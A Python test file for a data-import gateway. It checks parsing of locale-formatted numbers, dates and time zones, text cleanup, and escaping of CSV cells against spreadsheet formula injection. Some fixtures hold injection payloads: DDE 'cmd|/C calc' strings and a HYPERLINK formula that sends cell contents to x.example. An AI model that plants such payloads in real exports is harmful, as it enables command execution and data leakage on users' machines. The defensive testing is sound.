"""Numbers, dates and texts as people write them in the cells of files, and back."""

from __future__ import annotations

import csv
import json
import re
from decimal import Decimal
from io import StringIO
from itertools import product
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from gateway.domain.imports.written_forms import judged
from gateway.records.values import cnpj, csv_cells, formats, instants, numbers, written_dates
from gateway.records.values import written_numbers as written
from gateway.records.values.csv_cells import Written
from gateway.records.values.folding import clean
from gateway.records.values.formats import Format, Wrong
from gateway.records.values.written_numbers import AUTO, COMMA, POINT


def said(text: str, form: str) -> str:
    try:
        return str(written.read(text, form))
    except Wrong as wrong:
        return wrong.code


@pytest.mark.parametrize(
    ("text", "comma", "point", "auto"),
    [
        ("1.500", "1500", "1.500", "ambiguous_number"),
        ("1,500", "1.500", "1500", "ambiguous_number"),
        ("R$ 10.000", "10000", "10.000", "ambiguous_number"),
        ("-12.345", "-12345", "-12.345", "ambiguous_number"),
        *(
            (text, number, number, number)
            for text, number in (
                ("1500", "1500"), ("1.500,00", "1500.00"), ("1,500.00", "1500.00"),
                ("R$ 1.500,00", "1500.00"), ("R$1.500,00", "1500.00"), ("1.500,00 R$", "1500.00"),
                ("BRL 5", "5"), ("5 reais", "5"), ("$12.50", "12.50"),
                ("R$\u00a01.234.567,89", "1234567.89"), ("1.500.000", "1500000"),
                ("1,500,000", "1500000"), ("1 500,00", "1500.00"), ("1\u202f500,5", "1500.5"),
                ("1\u2009500", "1500"), ("1'500.00", "1500.00"), ("1’500", "1500"),
                ("12.50", "12.50"), ("12,5", "12.5"), ("0.500", "0.500"), ("0,001", "0.001"),
                (",5", "0.5"), ("-R$ 10,00", "-10.00"), ("R$ -10,00", "-10.00"), ("-1", "-1"),
                ("\u22123,5", "-3.5"), ("(1,00)", "-1.00"), ("1,00-", "-1.00"), ("+7", "7"),
                ("R$ (63,12)", "-63.12"), ("($182.77)", "-182.77"), (" R$ -   ", "0"),
                ("", "wrong_number"), ("-", "wrong_number"), ("1.", "wrong_number"),
                ("1 50", "wrong_number"), ("1.50,00", "wrong_number"), ("1,2,3", "wrong_number"),
                ("--1", "wrong_number"), ("R$ 1 R$", "wrong_number"), ("(-1)", "wrong_number"),
                ("(1", "wrong_number"),
                ("12 kg", "wrong_number"), ("1/2", "wrong_number"), ("9" * 90, "wrong_number"),
                ("7,89E+12", "shortened"), ("1.5e3", "shortened"), ("US$ 5", "other_currency"),
                ("€ 1.500,00", "other_currency"), ("10 USD", "other_currency"),
            )
        ),
    ],
)  # fmt: skip
def test_a_number_is_read_in_its_form(text: str, comma: str, point: str, auto: str) -> None:
    assert [said(text, form) for form in (COMMA, POINT, AUTO)] == [comma, point, auto]


@pytest.mark.parametrize(
    ("texts", "separator", "form"),
    [
        (["1.500", "2"], ",", AUTO), (["1.500"], ";", COMMA), (["1.500", "12,50"], ",", COMMA),
        (["1.500", "12.50"], ";", POINT), (["1.500", "12.50", "1,5"], ";", AUTO),
        (["1,500,000", "x", "0"], "\t", POINT), (["R$ 1.234,5"], ",", COMMA), ([], ",", AUTO),
    ],
)  # fmt: skip
def test_all_cells_and_the_separator_tell_the_form(
    texts: list[str], separator: str, form: str
) -> None:
    assert judged(map(written.shows, texts), separator, written.FORMS) == form


@given(
    st.decimals(-(10**15), 10**15, places=3) | st.integers(-(10**15), 10**15),
    st.sampled_from((COMMA, POINT)),
)
def test_what_is_written_reads_back_equal(number: Decimal | int, form: str) -> None:
    assert written.read(written.write(number, form), form) == number
    grouped = f"{number:,}"
    if form == COMMA:
        grouped = grouped.translate(str.maketrans(",.", ".,"))
    assert written.read(f"R$ {grouped}", form) == number


DATES: list[tuple[str, str, str, str]] = [
    ("03/04/2026", "2026-04-03", "2026-03-04", "ambiguous_date"),
    ("3/4/26 7:05", "2026-04-03T10:05:00.000Z", "2026-03-04T10:05:00.000Z", "ambiguous_date"),
    *(
        (text, day, day, day)
        for text, day in (
            ("31/12/2026", "2026-12-31"), ("12/31/2026", "2026-12-31"), ("5/5/2026", "2026-05-05"),
            ("31-12-99", "1999-12-31"), ("03.04.2026", "2026-04-03"), ("2026/4/3", "2026-04-03"),
            ("2026-04-03", "2026-04-03"), ("10-Mar-26", "2026-03-10"),
            ("10 de março de 2026", "2026-03-10"), ("Mar 10, 2026", "2026-03-10"),
            ("31/12/2026 22:00", "2027-01-01T01:00:00.000Z"),
            ("31/12/2026, 22:00:05", "2027-01-01T01:00:05.000Z"),
            ("2026-12-31T22:00", "2027-01-01T01:00:00.000Z"),
            ("2026-12-31 22:00:05.5", "2027-01-01T01:00:05.500Z"),
            ("12/31/2026 12:30 AM", "2026-12-31T03:30:00.000Z"),
            ("12/31/2026 2:30 p.m.", "2026-12-31T17:30:00.000Z"),
            ("2026-12-31T22:00:00Z", "2026-12-31T22:00:00Z"),
            ("31/02/2026", "invalid_date"), ("2026-12-31 25:00", "invalid_date"),
            ("13/13/2026", "invalid_date"), ("31/12/2026 13:00 PM", "invalid_date"),
        )
    ),
]  # fmt: skip


@pytest.mark.parametrize(("text", "day_first", "month_first", "auto"), DATES)
def test_a_date_is_read_in_its_form_and_zone(
    text: str, day_first: str, month_first: str, auto: str
) -> None:
    def read(form: str) -> str:
        try:
            return written_dates.read(text, form, "America/Sao_Paulo")
        except Wrong as wrong:
            return wrong.code

    forms = (written_dates.DAY_FIRST, written_dates.MONTH_FIRST, written_dates.AUTO)
    assert [read(form) for form in forms] == [day_first, month_first, auto]
    if auto.startswith("2"):
        instants.instant().accept(auto)


@pytest.mark.parametrize(
    ("texts", "separator", "form"),
    [
        (["03/04/2026"], ",", "auto"), (["03/04/2026"], ";", "dd/mm/yyyy"),
        (["03/04/2026", "13/04/2026"], ",", "dd/mm/yyyy"),
        (["03/04/2026", "04/13/26 10:00"], ";", "mm/dd/yyyy"),
        (["13/04/2026", "04/13/2026"], ";", "auto"), (["2026-04-13", "x"], "\t", "auto"),
    ],
)  # fmt: skip
def test_all_dates_and_the_separator_tell_the_form(
    texts: list[str], separator: str, form: str
) -> None:
    assert judged(map(written_dates.shows, texts), separator, written_dates.FORMS) == form


ODD = "\u200b \ufeffAna\u00a0Li\u00admà\u202e \u2060\u3000"


@pytest.mark.parametrize(
    ("format_", "cell", "value"),
    [
        (formats.title(), ODD, "Ana Limà"),
        (formats.title(), "\u200e(11) 98888-7777\u202c", "(11) 98888-7777"),
        (formats.title(), "👩\u200d💻 می\u200cخواهم \u200d", "👩\u200d💻 می\u200cخواهم"),
        (formats.title(), "a\u200db", "ab"),
        (formats.title(), "'=1+1", "=1+1"), (formats.title(), "' a", " a"),
        (formats.title(), "'t Hooft", "'t Hooft"), (formats.text(9), "'", ""),
        (formats.title(64), "7,89E+12", "shortened"), (cnpj.cnpj(), "1.12E+13", "shortened"),
        (formats.phone(), "5,51199E+12", "shortened"), (formats.text(200), "7E+12", "7E+12"),
        (formats.tags(), "vip; feira, praia ;", ["vip", "feira, praia"]),
        (formats.tags(), "vip | feira", ["vip", "feira"]),
        (formats.tags(), "a, b,c", ["a", "b", "c"]),
        (formats.tags(), r"Bar\, café,b", ["Bar, café", "b"]), (formats.tags(), '["a,b"]', ["a,b"]),
        (numbers.integer(0, 100), "50 %", 50), (numbers.money(), "50%", "wrong_number"),
        (numbers.integer(0, 10**9), "\u00a01.500 ", 1500), (formats.boolean(), " Sim\u200b", True),
        (instants.instant(), "03/04/2026 22:00", "2026-04-04T01:00:00.000Z"),
    ],
)  # fmt: skip
def test_a_cell_is_read_by_its_format(format_: Format, cell: str, value: Any) -> None:
    form = Written(COMMA, written_dates.DAY_FIRST, "America/Sao_Paulo")
    try:
        found = csv_cells.read(format_, cell, form)
    except Wrong as wrong:
        found = wrong.code
    assert found == value


SIGNS = tuple("=+-@\uff1d\uff0b\uff0d\uff20")


def formulas(cell: str) -> list[str]:
    """Return the formulas that programs find in a row with this cell.

    Each of them has its separator, and reads quotes as it should, not at all, or by lines alone.
    """
    found = []
    for own, other in product(",;\t", ",;\t|"):
        file = StringIO(newline="")
        csv.writer(file, delimiter=own, lineterminator="\r\n").writerow(["1", cell, "end"])
        row = file.getvalue()
        for quoting in (csv.QUOTE_MINIMAL, csv.QUOTE_NONE):
            lines = csv.reader(StringIO(row, newline=""), delimiter=other, quoting=quoting)
            found += [one for line in lines for one in line]
        split = row.replace("\r", "\n").split("\n")
        found += [one for line in csv.reader(split, delimiter=other) for one in line]
    return [one for one in found if clean(one).startswith(SIGNS)]


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ("=1+1", "'=1+1"), ("Ana;=1+1", "Ana;'=1+1"), ("Ana,@SUM(1;1)", "Ana,'@SUM(1;1)"),
        ("a\t-2+3+cmd|' /C calc'!A0", "a\t'-2+3+cmd|' /C calc'!A0"),
        ("x;=cmd|'/C calc'!A0;y", "x;'=cmd|'/C calc'!A0;y"),
        ('";=HYPERLINK("http://x.example?"&A1;"open")', None),
        ('a;"=WEBSERVICE(A1)', "a;'\"=WEBSERVICE(A1)"), ("a;;;+1", "a;;;'+1"),
        ("note\n=1+1", "note\n'=1+1"), ("note\r\n=1+1", "note\r\n'=1+1"),
        ("note\r@x", "note\r'@x"), ("a; \u00a0=1", None), ("a;\t=1", "a;'\t'=1"),
        ("a;\ufeff\u200b=1", None), ("a;\uff1d1+1", "a;'\uff1d1+1"), ("a|=1", "a|'=1"),
        ("a;'=1", "a;''=1"), ("a;''=1", "a;'''=1"), ("a;'t", "a;'t"), ("a, b; c - d", None),
        ("Rua A,\r\nSP", "Rua A,\r\nSP"), (["=1", "a;=1", 'b,"-1'], None),
        ({"=k": "v;+1", "\u00a0": ["a;'=1"]}, None),
    ],
)  # fmt: skip
def test_no_separator_finds_a_formula(text: Any, cell: str | None) -> None:
    written = csv_cells.write(text)
    assert cell in (None, written)
    assert formulas(written) == []
    if isinstance(text, str):
        assert csv_cells.plain(written) == text
    else:
        assert csv_cells.plain(written) == written
        assert json.loads(written) == text


def test_without_the_inner_marks_a_formula_is_found(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(csv_cells, "UNMARKED", re.compile("(?!)"))
    assert formulas(csv_cells.write("a;=1"))
    assert formulas(csv_cells.write("a,=1"))
    # A number is none.
    assert csv_cells.write([1, -5]) == "[1, -5]"


@given(st.text(st.sampled_from("a'\"=-+,;|\t \r\n\u00a0\u200b\u200d\ufeffé0"), max_size=7))
def test_each_text_is_written_so_that_it_reads_back_equal(text: str) -> None:
    cell = csv_cells.write(text)
    assert (csv_cells.plain(cell), cell[:1] in csv_cells.STARTS) == (text, False)
    assert clean(clean(text)) == clean(text)
    assert formulas(cell) == []
    listed = csv_cells.write([text, {text: text}])
    assert (csv_cells.plain(listed), json.loads(listed)) == (listed, [text, {text: text}])
    assert formulas(listed) == []
    # A report of faulty lines writes what it has read.
    assert csv_cells.plain(csv_cells.inert(csv_cells.plain(text))) == csv_cells.plain(text)
